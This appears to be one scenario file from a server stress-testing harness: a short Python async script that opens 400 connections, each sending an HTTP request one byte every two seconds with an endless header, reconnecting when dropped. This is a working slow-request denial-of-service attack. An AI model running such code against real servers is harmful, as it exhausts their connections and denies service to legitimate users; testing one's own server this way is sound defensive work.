"""Hundreds of connections that send a request byte by byte, every few seconds one, and never come to its end."""

from __future__ import annotations

import asyncio

from abuse.hostile import HOST, Hostile


async def attack(hostile: Hostile) -> None:
    """Four hundred; who is thrown out comes back."""

    async def drip() -> None:
        async with hostile.plain() as line:
            hostile.count("connections")
            for byte in f"GET / HTTP/1.1\r\nHost: {HOST}:{hostile.port}\r\nX-Slow: ".encode() + b"x" * 1000:
                if not await line.send(bytes([byte])):
                    break
                await asyncio.sleep(2.0)
                if not hostile.goes_on:
                    return
        hostile.count("thrown out")

    await hostile.together(drip, 400)
